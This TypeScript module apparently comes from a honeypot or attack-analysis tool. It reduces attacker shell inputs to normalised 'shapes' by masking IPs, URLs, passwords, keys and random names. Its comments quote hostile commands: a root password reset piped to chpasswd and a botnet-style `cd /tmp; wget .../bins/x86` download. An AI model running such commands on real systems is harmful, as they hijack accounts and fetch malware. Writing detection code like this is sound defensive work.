/** Characters of an input that a shape is made of: what comes after them is data. */
const SHAPED = 4096

/** Applied in order; each leaves a mark that no later one matches. All run in linear time. */
const MARKS: readonly (readonly [RegExp, string | ((...found: string[]) => string)])[] = [
  // `echo "root:x7Kq"|chpasswd` and `echo -e "old\nnew\nnew" | passwd`: bots draw these by lot.
  [/(["']?)[\w.-]{1,64}:[^\s"'|]{1,128}\1(\s{0,8}\|\s{0,8}(?:sudo\s+)?chpasswd)/g, (_, __, rest) => `<credential>${rest}`],
  [/(["'])[^"'\n]{1,256}\1(\s{0,8}\|\s{0,8}(?:sudo\s+)?passwd)/g, (_, __, rest) => `<secret>${rest}`],
  [/\bssh-(?:rsa|dss|ed25519)\s+[A-Za-z0-9+/=]{16,}/g, '<ssh-key>'],
  [/\b(?:https?|ftp|tftp):\/\/[^\s"'|;&<>`]{1,512}/gi, (url) => `<url:${pathShape(url)}>`],
  [/\b\d{1,3}(?:\.\d{1,3}){3}\b/g, '<ip>'],
  [/(?:\\x[0-9a-f]{2}){4,}/gi, '<escaped>'],
  [/\b[0-9a-f]{16,}\b/gi, '<hex>'],
  [/[A-Za-z0-9+/]{24,}={0,2}/g, (run) => (looksRandom(run) ? '<base64>' : run)],
  [/(\/(?:tmp|var\/tmp|dev\/shm|run|mnt)\/)\.?[A-Za-z0-9_.-]{1,64}/g, (_, folder) => `${folder}<name>`],
  [/\b\d{2,}\b/g, '<n>'],
  [/\s+/g, ' '],
]

/**
 * An input with what varies between two runs of one attack taken out: addresses, the hosts of URLs, passwords, keys, random
 * names and numbers. Equal shapes in equal order are one script at work.
 * @example
 * shapeOf('cd /tmp; wget http://198.51.100.9/bins/x86') // 'cd /tmp; wget <url:/bins/x86>'
 */
export function shapeOf(input: string): string {
  let shape = input.slice(0, SHAPED)
  for (const [pattern, mark] of MARKS) shape = typeof mark === 'string' ? shape.replace(pattern, mark) : shape.replace(pattern, mark)
  return shape.trim()
}

/** The path with its numbers and random parts taken out; the host of a URL changes with every server that a botnet loses. */
function pathShape(url: string): string {
  const path = /^[a-z]+:\/\/[^/?#]*([^?#]*)/i.exec(url)?.[1] ?? ''
  const parts = path.split('/').map((part) => (/\d{3,}|[0-9a-f]{8,}/i.test(part) && looksRandom(part) ? '*' : part))
  return parts.join('/').replace(/\d{2,}/g, 'n') || '/'
}

/** Letters of both cases and digits, or hardly any vowels: words and paths have neither. */
function looksRandom(text: string): boolean {
  if (/\d/.test(text) && /[a-z]/.test(text) && /[A-Z]/.test(text)) return true
  const vowels = text.match(/[aeiou]/gi)?.length ?? 0
  return vowels / text.length < 0.15
}
